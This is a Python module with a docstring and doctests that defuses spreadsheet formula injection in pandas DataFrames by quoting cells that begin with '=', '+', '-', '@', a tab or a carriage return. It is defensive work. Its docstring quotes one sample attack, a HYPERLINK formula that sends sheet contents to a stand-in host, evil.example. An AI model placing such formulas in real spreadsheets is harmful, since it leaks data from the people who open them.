"""CSV cells that a spreadsheet would run as formulas, made inert (OWASP "CSV injection").

Incident files carry text from articles, social media and other people's
spreadsheets. Excel, LibreOffice Calc and Google Sheets treat a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or carriage
return) as a formula: ``=HYPERLINK("http://evil.example/?leak="&A1,"x")``
sends the sheet's contents to a server when clicked. OWASP's advice for
files meant for spreadsheets is to prefix such cells with a single quote,
which the spreadsheet shows as text.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

__all__ = ["neutralise_formulas", "FORMULA_START"]

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells cannot run as spreadsheet formulas.

    Text cells (and column names) starting with ``=``, ``+``, ``-``, ``@``,
    a tab or a carriage return get a leading ``'``. Numeric columns, and
    text cells that are plain numbers such as ``-12.5``, are left as they are.

    Examples
    --------
    >>> frame = pd.DataFrame({"name": ["=1+1", "-12.5", "@SUM(A1)", "ok"], "lon": [-1.5, 2.0, 3.0, 4.0]})
    >>> neutralise_formulas(frame)["name"].tolist()
    ["'=1+1", '-12.5', "'@SUM(A1)", 'ok']
    >>> neutralise_formulas(frame)["lon"].tolist()
    [-1.5, 2.0, 3.0, 4.0]
    """
    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if values.dtype == object or isinstance(values.dtype, pd.StringDtype):
            out[column] = values.map(_inert)
    out.columns = [_inert(c) for c in out.columns]
    return out


def _inert(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.match(value):
        return "'" + value
    return value
